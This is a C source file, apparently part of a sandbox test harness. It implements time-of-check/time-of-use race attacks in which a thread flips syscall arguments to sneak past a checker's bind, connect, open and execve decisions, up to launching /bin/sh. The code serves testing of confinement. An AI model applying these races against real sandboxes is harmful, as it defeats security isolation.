/* Saying one thing to whoever checks and another to whoever acts: a second thread flips the argument all the time. */
#include "attack.h"

#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <pthread.h>
#include <stdatomic.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <sys/wait.h>

static char argument[4200], first_value[4200], second_value[4200];
static size_t argument_size;
static atomic_int flips;

static void *flip(void *unused) {
  for (;;) {
    atomic_fetch_add(&flips, 1);
    memcpy(argument, first_value, argument_size);
    for (volatile int i = 0; i < 200; i++) {}
    memcpy(argument, second_value, argument_size);
    for (volatile int i = 0; i < 200; i++) {}
  }
  return unused;
}

static int start_flipping(size_t size) {
  pthread_t thread;
  argument_size = size;
  memcpy(argument, first_value, size);
  int problem = pthread_create(&thread, NULL, flip, NULL);
  while (problem == 0 && atomic_load(&flips) < 2) usleep(10);
  return problem;
}

/* On one CPU, or a busy one, the other thread gets its turn. */
static void now_and_then(int i) {
  if (i % 20 == 19) usleep(50);
}

static struct sockaddr_in address_of(const char *host, int port) {
  struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
  inet_pton(AF_INET, host, &address.sin_addr);
  return address;
}

/* 2000 tries; the harm is a socket that is bound elsewhere than at 127.0.0.1:port. */
static int race_bind(struct sockaddr_in granted, struct sockaddr_in wanted) {
  memcpy(first_value, &granted, sizeof granted);
  memcpy(second_value, &wanted, sizeof wanted);
  if (start_flipping(sizeof granted) != 0) return failed_because("pthread_create", "no-thread");
  int last = EACCES;
  for (int i = 0; i < 2000; i++) {
    now_and_then(i);
    int fd = socket(AF_INET, SOCK_STREAM, 0), on = 1;
    if (fd < 0) return failed("socket");
    setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &on, sizeof on);
    struct sockaddr_in bound = {0};
    socklen_t length = sizeof bound;
    if (bind(fd, (struct sockaddr *)argument, sizeof bound) != 0) last = errno;
    else if (getsockname(fd, (struct sockaddr *)&bound, &length) == 0 &&
             (bound.sin_port != granted.sin_port || bound.sin_addr.s_addr != granted.sin_addr.s_addr) &&
             listen(fd, 1) == 0)
      return succeeded("listening at %s:%d after %d tries", inet_ntoa(bound.sin_addr), ntohs(bound.sin_port), i + 1);
    close(fd);
  }
  return errno = last, failed("bind");
}

static int race_bind_port(void) {
  return race_bind(address_of("127.0.0.1", number_param("port")), address_of("127.0.0.1", number_param("other")));
}

static int race_bind_address(void) {
  return race_bind(address_of("127.0.0.1", number_param("port")), address_of("0.0.0.0", number_param("port")));
}

/* 2000 tries; 127.0.0.1:`listed` is granted, and the harm is an answer of the test's listener. */
static int race_connect(void) {
  struct sockaddr_in granted = address_of("127.0.0.1", number_param("listed"));
  struct sockaddr_in wanted = address_of("127.0.0.1", number_param("tcp"));
  memcpy(first_value, &granted, sizeof granted);
  memcpy(second_value, &wanted, sizeof wanted);
  if (start_flipping(sizeof granted) != 0) return failed_because("pthread_create", "no-thread");
  struct timeval patience = {.tv_sec = 2};
  char buffer[40];
  int last = EACCES;
  for (int i = 0; i < 2000; i++) {
    now_and_then(i);
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    if (fd < 0) return failed("socket");
    setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof patience);
    if (connect(fd, (struct sockaddr *)argument, sizeof granted) != 0) last = errno;
    else if (recv(fd, buffer, sizeof buffer, 0) > 0)
      return succeeded("reply: %s after %d tries", printable(buffer, sizeof buffer), i + 1);
    close(fd);
  }
  return errno = last, failed("connect");
}

/* 20000 tries to have a granted path checked and the canary opened. */
static int race_open(void) {
  char expected[16] = "", found[16];
  snprintf(first_value, sizeof first_value, "%s", param("readable"));
  snprintf(second_value, sizeof second_value, "%s", param("canary"));
  int granted = open(first_value, O_RDONLY | O_CLOEXEC);
  if (granted < 0) return failed("open(granted)");
  ssize_t size = read(granted, expected, sizeof expected);
  if (size <= 0) return failed("read");
  size_t longer = strlen(first_value) > strlen(second_value) ? strlen(first_value) : strlen(second_value);
  if (start_flipping(longer + 1) != 0) return failed_because("pthread_create", "no-thread");
  int last = EACCES;
  for (int i = 0; i < 20000; i++) {
    now_and_then(i);
    int fd = open(argument, O_RDONLY | O_CLOEXEC);
    if (fd < 0) {
      if (errno != ENOENT) last = errno;
      continue;
    }
    ssize_t length = read(fd, found, sizeof found);
    if (length > 0 && (length != size || memcmp(found, expected, (size_t)size) != 0))
      return succeeded("first bytes: %s after %d tries", printable(found, (size_t)length), i + 1);
    close(fd);
  }
  return errno = last, failed("open");
}

/* 100 children, each trying to run the judged file and hoping for a shell. */
static int race_execute(void) {
  static char *const words[] = {"sh", "-c", "echo SUCCEEDED a shell ran; exit 0", NULL};
  snprintf(first_value, sizeof first_value, "/proc/self/fd/9");
  snprintf(second_value, sizeof second_value, "/bin/sh");
  for (int i = 0; i < 100; i++) {
    pid_t child = fork();
    if (child < 0) return failed("fork");
    if (child == 0) {
      if (start_flipping(64) != 0) _exit(2);
      for (int tries = 0; tries < 40; tries++) {
        execve(argument, words, NULL);
        now_and_then(tries);
      }
      _exit(errno == 0 ? 1 : errno);
    }
    int status = 0;
    waitpid(child, &status, 0);
    if (WIFEXITED(status) && WEXITSTATUS(status) == 0) return EXIT_SUCCEEDED;
    errno = WIFEXITED(status) ? WEXITSTATUS(status) : EACCES;
  }
  return failed("execve");
}

const struct attempt race_attempts[] = {
    {"race-bind-port", race_bind_port},
    {"race-bind-address", race_bind_address},
    {"race-connect", race_connect},
    {"race-open", race_open},
    {"race-execute", race_execute},
    {NULL, NULL},
};
